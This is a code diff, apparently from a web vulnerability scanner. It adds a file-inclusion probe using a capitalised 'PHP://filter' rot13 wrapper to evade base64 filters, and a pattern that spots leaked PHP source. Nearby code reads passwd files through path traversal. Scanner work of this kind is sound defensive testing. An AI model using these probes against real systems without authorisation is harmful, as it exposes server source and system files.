@@ -55,6 +55,14 @@ const scriptOf = (name: string): KnownFile => ({
   isScript: true,
 });
 
+/** The same with its letters moved by thirteen, where the word "base64" is refused. */
+const movedScript = (name: string): KnownFile => ({
+  path: name,
+  nowhere: '‹nonce›',
+  pattern: '(?:<|&lt;)\\?cuc\\s',
+  isScript: true,
+});
+
 /** More steps up than any site stands deep: above the root there is only the root. */
 const depth = 10;
 const up = (step: string) => step.repeat(depth);
@@ -161,6 +169,13 @@ function throughFilter(sample: string, route: string): Spelling[] {
   const scripts = new Set([sample.replace(/\.php$/i, ''), script].filter((name) => /^[\w./-]{1,80}$/.test(name)));
   return [
     { spell: (path) => filter(`/${path}`), file: encodedPasswd },
+    // names of streams are the same in capitals
+    ...[...scripts].slice(0, 1).flatMap((name) =>
+      ['', '.php'].map((ending) => ({
+        spell: (path: string) => `PHP://filter/read=string.rot13/resource=${path}${ending}`,
+        file: movedScript(name),
+      })),
+    ),
     ...[...scripts].flatMap((name) => [
       { spell: filter, file: scriptOf(name) },
       { spell: (path: string) => filter(`${path}.php`), file: scriptOf(name) },
